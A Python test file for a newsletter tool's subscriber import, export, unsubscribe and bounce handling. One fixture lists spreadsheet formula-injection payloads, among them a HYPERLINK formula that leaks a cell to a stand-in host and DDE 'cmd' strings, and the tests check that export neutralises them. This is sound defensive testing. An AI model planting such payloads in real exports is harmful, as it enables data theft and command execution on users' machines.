"""The list in the ledger through `newsletter subscribers …` and `newsletter unsubscribe`:
messy imports, statuses that stick, export, and runs that pick up subscribers.csv."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from click.testing import CliRunner

from conftest import NOW, markdown_entry, messages, write_entry
from pipeline.cli.main import cli
from pipeline.run import run
from pipeline.state.ledger import open_ledger
from pipeline.state.subscribers import SubscriberBook

MESSY = (
    "\ufeffEmail;Name;Categories;Status\r\n"          # 1: BOM, semicolons, header case
    "ada@example.org;Ada Lovelace;Heart Health,Sleep;active\r\n"  # 2
    "\r\n"                                              # 3: blank
    "not-an-address;Nobody;;active\r\n"                # 4: invalid
    "ADA@EXAMPLE.ORG;Ada Again;;active\r\n"             # 5: duplicate in another case
    "grace@example.org;  Grace   Hopper ;;\r\n"         # 6: no status means active
    ";;;\r\n"                                           # 7: empty row
    "left@example.org;Left;;unsubscribed\r\n"           # 8
    "bad@@example.org;Two Ats;;active\r\n"              # 9: invalid
    "alan@example.org;Alan;;VIP\r\n"                    # 10: unknown status
    "bounce@example.org;Bouncing;;bouncing\r\n"         # 11: the send branch's spelling
)


def invoke(site: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, [*args, "--site", str(site)], catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def book_status(site: Path) -> dict[str, str]:
    with open_ledger(site / ".newsletter") as ledger:
        return {s.email: s.status for s in SubscriberBook(ledger).everyone()}


def test_a_messy_csv_imports_its_good_rows_and_reports_each_bad_one(site: Path,
                                                                    tmp_path: Path) -> None:
    path = tmp_path / "messy.csv"
    path.write_bytes(MESSY.encode("utf-8"))
    code, out, err = invoke(site, "subscribers", "import", str(path))
    assert code == 1
    assert book_status(site) == {"ada@example.org": "active", "grace@example.org": "active",
                                 "left@example.org": "unsubscribed",
                                 "bounce@example.org": "bounced"}
    rejected = err.strip().splitlines()
    assert [int(re.match(rf"{re.escape(str(path))}:(\d+): ", line).group(1))
            for line in rejected] == [4, 9, 10]
    assert all(" — " in line for line in rejected)
    assert "'not-an-address'" in rejected[0] and "bad@@example.org" in rejected[1]
    assert "4 added" in out and "3 rows rejected" in out
    with open_ledger(site / ".newsletter") as ledger:
        ada = SubscriberBook(ledger).get("Ada@Example.org")
    assert ada.name == "Ada Lovelace" and ada.categories == ("Heart Health", "Sleep")


def test_an_import_never_reactivates_unless_told(site: Path, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("email,status\nada@example.org,active\n", encoding="utf-8")
    invoke(site, "subscribers", "import", str(path))
    assert invoke(site, "unsubscribe", "ADA@example.org")[0] == 0
    code, out, _ = invoke(site, "subscribers", "import", str(path))
    assert code == 0 and "stay off it" in out
    assert book_status(site)["ada@example.org"] == "unsubscribed"
    code, out, _ = invoke(site, "subscribers", "import", str(path), "--reactivate")
    assert code == 0 and "1 re-activated" in out
    assert book_status(site)["ada@example.org"] == "active"


def test_export_writes_what_import_reads(site: Path, tmp_path: Path) -> None:
    invoke(site, "subscribers", "add", "ada@example.org", "--name", "Ada, Countess",
           "--categories", "Sleep;heart health")
    invoke(site, "subscribers", "add", "grace@example.org")
    invoke(site, "unsubscribe", "grace@example.org")
    exported = tmp_path / "out.csv"
    assert invoke(site, "subscribers", "export", str(exported))[0] == 0
    assert exported.read_text(encoding="utf-8") == (
        "email,name,categories,status,consent_at,consent_source,consent_form,confirmed_at\n"
        'ada@example.org,"Ada, Countess",heart health;Sleep,active,,,,\n'
        "grace@example.org,,,unsubscribed,,,,\n")
    other = tmp_path / "other"
    other.mkdir()
    (other / "newsletter.toml").write_text((site / "newsletter.toml").read_text())
    assert invoke(other, "subscribers", "import", str(exported))[0] == 0
    assert book_status(other) == book_status(site)
    assert invoke(site, "subscribers", "export")[1] == exported.read_text(encoding="utf-8")


def test_list_counts_each_status_and_remove_forgets(site: Path) -> None:
    for address in ("a@example.org", "b@example.org", "c@example.org"):
        invoke(site, "subscribers", "add", address)
    invoke(site, "unsubscribe", "b@example.org")
    code, out, _ = invoke(site, "subscribers", "list")
    assert code == 0
    assert out.splitlines() == ["active: 2", "pending: 0", "unsubscribed: 1", "bounced: 0",
                                "complained: 0", "total: 3"]
    assert invoke(site, "subscribers", "remove", "c@example.org")[0] == 0
    assert invoke(site, "subscribers", "remove", "c@example.org")[0] == 1
    assert invoke(site, "unsubscribe", "nobody@example.org")[0] == 1
    assert invoke(site, "subscribers", "add", "not an address")[0] == 2
    assert "total: 2" in invoke(site, "subscribers", "list")[1]


def test_a_file_of_unsubscribes_and_bounces_is_applied(site: Path, tmp_path: Path) -> None:
    for address in ("a@example.org", "b@example.org", "c@example.org"):
        invoke(site, "subscribers", "add", address)
    path = tmp_path / "requests.txt"
    path.write_text("# from the unsubscribe mailbox\n\nunsubscribe A@example.org\n"
                    "bounce b@example.org\nc@example.org\nbounce\nstranger@example.org\n",
                    encoding="utf-8")
    code, out, err = invoke(site, "subscribers", "process", str(path))
    assert code == 1  # the `bounce` line without an address
    assert re.search(rf"^{re.escape(str(path))}:6: line: .+ — ", err, re.M)
    assert "stranger@example.org: not on the list" in err
    assert "2 unsubscribed, 1 bounced, 1 not on the list, 1 lines rejected" in out
    assert book_status(site) == {"a@example.org": "unsubscribed", "b@example.org": "bounced",
                                 "c@example.org": "unsubscribed"}


def test_a_run_imports_the_changed_csv_but_an_edit_never_resubscribes(site: Path) -> None:
    write_entry(site, "a.md", markdown_entry(title="One"))
    assert run(site, NOW).written == 2
    assert invoke(site, "unsubscribe", "ada@example.org")[0] == 0
    csv_path = site / "subscribers.csv"
    csv_path.write_text(csv_path.read_text() + "alan@example.org,Alan Turing,,active\n")
    write_entry(site, "b.md", markdown_entry(title="Two", date="2026-03-15"))
    report = run(site, NOW)
    assert report.digest_id == 2 and report.written == 2  # grace and the new alan, not ada
    assert book_status(site)["ada@example.org"] == "unsubscribed"
    assert book_status(site)["alan@example.org"] == "active"


def test_status_shows_counts_per_status(site: Path) -> None:
    write_entry(site, "a.md", markdown_entry())
    run(site, NOW)
    out = CliRunner().invoke(cli, ["status", "--site", str(site)]).stdout
    assert "Subscribers: 2 active, 0 pending, 1 unsubscribed, 0 bounced" in out


def test_an_opt_out_below_an_active_row_wins_and_is_reported(site: Path) -> None:
    write_entry(site, "a.md", markdown_entry(title="One"))
    csv_path = site / "subscribers.csv"
    csv_path.write_text(csv_path.read_text() + "ada@example.org,,,unsubscribed\n")
    result = CliRunner().invoke(cli, ["run", "--site", str(site)], catch_exceptions=False)
    assert result.exit_code == 0  # the file is clear enough: the person asked to leave
    assert re.search(r"^subscribers\.csv:2: warning: status: ada@example\.org is active here "
                     r"but unsubscribed on line 5 — the opt-out wins", result.stderr, re.M)
    assert book_status(site) == {"grace@example.org": "active", "ada@example.org": "unsubscribed",
                                 "left@example.org": "unsubscribed"}
    assert sorted(m["To"].addresses[0].addr_spec for m in messages(site)) == [
        "grace@example.org"]


def test_an_opt_out_anywhere_in_an_import_wins_over_an_active_row(site: Path,
                                                                  tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("email,name,status\nada@example.org,Ada,active\nb@example.org,B,bounced\n"
                    "grace@example.org,Grace,active\nB@example.org,B,active\n"
                    "grace@example.org,,unsubscribed\n", encoding="utf-8")
    code, out, err = invoke(site, "subscribers", "import", str(path))
    assert code == 0 and "0 rows rejected" in out
    assert book_status(site) == {"ada@example.org": "active", "b@example.org": "bounced",
                                 "grace@example.org": "unsubscribed"}
    assert [int(re.match(rf"{re.escape(str(path))}:(\d+): warning: status: ", line).group(1))
            for line in err.splitlines()] == [4, 5]


HOSTILE_NAMES = {
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(",
    "\t=1+1": "'=1+1",
    "\r=1+1": "'=1+1",
    "Bell\x07 and\x1b[31m escape": "Bell and[31m escape",
}


def test_export_neutralises_formulas_and_drops_control_characters(site: Path,
                                                                   tmp_path: Path) -> None:
    from pipeline.core.models import Subscriber

    with open_ledger(site / ".newsletter") as ledger:
        book = SubscriberBook(ledger)
        for number, name in enumerate(HOSTILE_NAMES):
            book.add(Subscriber(f"p{number}@example.org", name), NOW)
        book.add(Subscriber("=1+1@example.org", "Formula Address"), NOW)
    exported = tmp_path / "out.csv"
    assert invoke(site, "subscribers", "export", str(exported))[0] == 0
    data = exported.read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", data)
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for name, shown in HOSTILE_NAMES.items():
        assert any(cell.startswith(shown) for cell in cells), name
    assert "'=1+1@example.org" in cells
    # Import takes the quote off again: the list comes back as it was (control chars aside).
    other = tmp_path / "other"
    other.mkdir()
    (other / "newsletter.toml").write_text((site / "newsletter.toml").read_text())
    assert invoke(other, "subscribers", "import", str(exported))[0] == 0
    with open_ledger(other / ".newsletter") as ledger:
        names = {s.email: s.name for s in SubscriberBook(ledger).everyone()}
    assert names["p0@example.org"] == "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
    assert names["p4@example.org"] == "=1+1"
    assert names["=1+1@example.org"] == "Formula Address"


def test_import_reports_control_characters_with_their_line(site: Path, tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("email,name,categories,status\nada@example.org,Ada,,active\n"
                    "grace@example.org,Grace\x07 Hopper,Sleep\x1b,active\n", encoding="utf-8")
    code, out, err = invoke(site, "subscribers", "import", str(path))
    assert code == 0 and "2 added" in out and "0 rows rejected" in out
    lines = err.splitlines()
    assert lines == [
        f"{path}:3: warning: name: grace@example.org: contains a control character — removed; "
        "check that row in the file",
        f"{path}:3: warning: categories: grace@example.org: contains a control character — "
        "removed; check that row in the file"]
    with open_ledger(site / ".newsletter") as ledger:
        grace = SubscriberBook(ledger).get("grace@example.org")
    assert grace.name == "Grace Hopper" and grace.categories == ("Sleep",)


def test_add_on_a_known_address_changes_only_what_is_given(site: Path) -> None:
    write_entry(site, "a.md", markdown_entry(category="Sleep"))
    write_entry(site, "b.md", markdown_entry(title="Heart", category='"Heart Health"'))
    assert invoke(site, "subscribers", "add", "ada@example.org", "--name", "Ada",
                  "--categories", "Sleep;heart health")[0] == 0

    def ada() -> tuple[str, tuple[str, ...]]:
        with open_ledger(site / ".newsletter") as ledger:
            row = SubscriberBook(ledger).get("ada@example.org")
        return row.name, row.categories

    assert invoke(site, "subscribers", "add", "ADA@example.org", "--name", "Ada Lovelace")[0] == 0
    assert ada() == ("Ada Lovelace", ("heart health", "Sleep"))  # the topics stay
    assert invoke(site, "subscribers", "add", "ada@example.org", "--categories", "Sleep")[0] == 0
    assert ada() == ("Ada Lovelace", ("Sleep",))  # the name stays
    assert invoke(site, "subscribers", "add", "ada@example.org")[0] == 0
    assert ada() == ("Ada Lovelace", ("Sleep",))
    assert invoke(site, "subscribers", "add", "ada@example.org", "--categories", "")[0] == 0
    assert ada() == ("Ada Lovelace", ())  # "" chooses every entry


def test_add_reports_topics_no_published_entry_has(site: Path) -> None:
    write_entry(site, "a.md", markdown_entry(category="Sleep"))
    write_entry(site, "later.md", markdown_entry(title="Later", date="2099-01-01",
                                                 category="Nutrition"))  # not published yet
    code, out, err = invoke(site, "subscribers", "add", "ada@example.org",
                            "--categories", "sleep;Slep;Nutrition")
    assert code == 0 and "added ada@example.org" in out
    assert err.splitlines() == [
        f"warning: topic {topic!r} is not a category of any published entry (known: Sleep) — "
        "check the spelling: a subscriber gets only entries in their topics"
        for topic in ("Nutrition", "Slep")]
    assert invoke(site, "subscribers", "add", "grace@example.org", "--categories",
                  "SLEEP")[2] == ""
